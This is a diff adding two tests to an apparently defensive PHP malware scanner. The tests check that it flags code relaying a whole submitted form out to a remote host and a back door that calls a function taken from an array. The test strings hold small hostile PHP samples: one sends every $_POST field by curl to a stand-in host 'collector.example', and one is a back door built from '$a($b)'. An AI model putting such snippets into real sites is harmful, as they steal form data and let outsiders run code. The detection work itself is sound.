@@ -30,3 +30,23 @@ test('a callee is the request only when every value it is given is', () => {
     ),
   );
 });
+
+test('the whole form copied field by field through a method and a property is posted out; plain http decides', () => {
+  const relay = (url: string) =>
+    analysePhp(
+      `<?php class A { function a() { self::b($_POST); curl_setopt($c, CURLOPT_URL, '${url}'); curl_setopt($c, CURLOPT_POSTFIELDS, $this->d); } static function b($p) { foreach ($p as $k => $v) $this->d .= "$k=$v&"; } }`,
+    ).signals.find((s) => s.id === 'php-request-relayed-out')?.weight ?? 0;
+  assert.ok(relay('http://collector.example/g.php') >= 10);
+  assert.ok(relay('https://gateway.example/ipn') < 10);
+  // Methods cut out of a class, without the opening tag, are read as the class's body.
+  const fragment =
+    'public function a() { $this->b($_POST); $c = curl_init("http://collector.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, $this->d); }\nprotected function b($p) { foreach ($p as $k => $v) { $this->d[$k] = $v; } }';
+  assert.ok(analysePhp(fragment).signals.some((s) => s.id === 'php-request-relayed-out'));
+});
+
+test('a callee and its argument from an array nothing sets: a back door as a file of its own, weak in a template', () => {
+  const weight = (code: string) => analysePhp(code).signals.find((s) => s.id === 'php-outside-callee')?.weight ?? 0;
+  assert.ok(weight("<?php $a = $P['f']; $b = $P['x']; $a($b);") >= 10);
+  const template = `<?php $render = $args['render']; ?>\n${'<div class="row"><span>item</span></div>\n'.repeat(60)}<?php $render($args['item']); ?>`;
+  assert.ok(weight(template) < 10);
+});
